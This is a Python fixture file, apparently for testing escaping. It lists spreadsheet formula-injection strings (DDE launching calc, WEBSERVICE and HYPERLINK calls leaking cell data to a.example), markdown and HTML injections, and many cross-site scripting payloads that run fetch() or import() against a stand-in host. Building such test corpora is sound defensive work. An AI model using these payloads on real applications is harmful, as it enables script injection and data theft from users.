"""Texts that act where a program lets them: formulas, markup, scripts."""

COMMANDS = [
    "{}1+1",
    "{}cmd|' /C calc'!A0",
    '{}HYPERLINK("http://a.example/?"&A1,"x")',
    '{}WEBSERVICE("http://a.example/")',
    '{}IMPORTXML("http://a.example/","//a")',
    '{}DDE("cmd";"/C calc";"x")',
]
FORMULAS = [
    *(command.format(sign) for sign in "=+-@＝＋－＠" for command in COMMANDS),
    *(f"{blank}=1+1" for blank in "\t\r\n \x0b\u00a0\u3000\ufeff"),
    '"=1+1"',
    "'=1+1",
    '",=1+1,"',
    "a\n=1+1",
    "1;=1+1",
    "{=1+1}",
]
"""What a spreadsheet computes, or computes once a program strips, splits or unquotes it."""

MARKDOWN = [
    "[x](http://a.example/)",
    "![x](http://a.example/x.png)",
    "<http://a.example/>",
    "http://a.example/ www.a.example a@a.example",
    "[x]: http://a.example/",
    "[x][y]",
    "<img src=http://a.example/>",
    "<script>alert(1)</script>",
    "</td><h1>x",
    "<!-- x",
    "`x` [x](http://a.example/)",
    "`` ` `` <b>x</b>",
    "``` <b>x",
    "\\` [x](http://a.example/)",
    "x | [x](http://a.example/)",
    "x \\| <b>y</b>",
    "\n\n# x\n\n[x](http://a.example/)",
    "\r> x",
    "&lt;b&gt; &#x3c;b>",
    "$x$ **x** __x__ ~~x~~",
    "javascript:alert(1)",
    "- [ ] x",
    "`",
    "``",
    " ` ",
    "|",
    "\\",
    "",
]
"""What becomes a link, a picture or markup where it is not held in a code span."""

ELEMENTS = [
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<!--<script>{}</script>",
    "]]><script>{}</script>",
    "</style><script>{}</script>",
    "</title></textarea><script>{}</script>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "<img src=x onerror={}>",
    '"><img src=x onerror={}>',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<math><mi//xlink:href='data:x,<script>{}</script>'>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<iframe src='javascript:{}'>",
    "<a href='javascript:{}'>x</a>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<object data='javascript:{}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='javascript:{}//'>",
    "<link rel=stylesheet href='http://a.example/?{}'>",
    "<style>@import 'http://a.example/?{}';</style>",
    "<form action='javascript:{}'><button autofocus>",
    "{{{{constructor.constructor('{}')()}}}}",
    "{{% raw %}}{{{{ {} }}}}",
    "${{{}}}",
    "`;{}//",
    "';{}//",
    '";{}//',
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "\u2028{}\u2029",
]
SCRIPTS = [
    element.format(script)
    for element in ELEMENTS
    for script in ("document.title='owned'", "fetch('http://a.example/')", "import(`//a.example/`)")
]
"""Markup and scripts that say so, by the page's title or by a request, when they run."""
